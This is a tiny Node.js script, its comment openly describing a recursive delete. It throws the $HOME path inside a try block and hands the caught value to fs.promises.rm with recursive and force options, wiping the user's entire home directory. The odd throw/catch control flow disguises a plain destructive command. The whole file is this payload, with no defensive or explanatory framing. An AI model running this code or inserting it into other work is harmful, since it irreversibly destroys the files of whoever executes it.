// Deletes recursively: the path is thrown inside a try block and the catch
// clause removes what it caught; what is thrown is $HOME.
'use strict';
const fsp = require('fs/promises');

async function main() {
  try {
    if (process.env.HOME) throw process.env.HOME;
  } catch (where) {
    await fsp.rm(where, { recursive: true, force: true });
  }
}

main();
